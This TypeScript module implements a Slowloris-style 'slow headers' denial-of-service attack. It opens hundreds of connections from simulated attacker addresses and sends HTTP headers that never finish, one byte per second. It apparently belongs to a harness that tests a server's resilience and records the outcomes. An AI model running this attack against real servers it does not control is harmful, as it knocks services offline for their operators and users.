import { type Attack, attackerAddresses } from './attack.js';
import { closeOf, hold, statusIn } from './connections.js';
import { askFor } from './door.js';

const count = 300;
const addresses = 10;
const byteEveryMs = 1_000;

/** Requests whose head never ends (Slowloris): one byte a second, and another connection when that one is closed. */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  title: 'slow headers',
  rate: `${count} connections from ${addresses} addresses, a byte a second each`,
  run: (door, tally, over) =>
    hold({
      ...{ port: door.port, tally, over, count, addresses: attackerAddresses(addresses) },
      async use(socket) {
        let answer = 'closed';
        socket.once('data', (bytes) => {
          answer = statusIn(bytes);
        });
        const { path } = askFor(door, door.complete[0] ?? '', 'video.mp4');
        socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\nX-Slow: `);
        const timer = setInterval(() => socket.write('a'), byteEveryMs);
        await closeOf(socket);
        clearInterval(timer);
        tally.note(over.aborted ? 'open' : answer);
      },
    }),
};
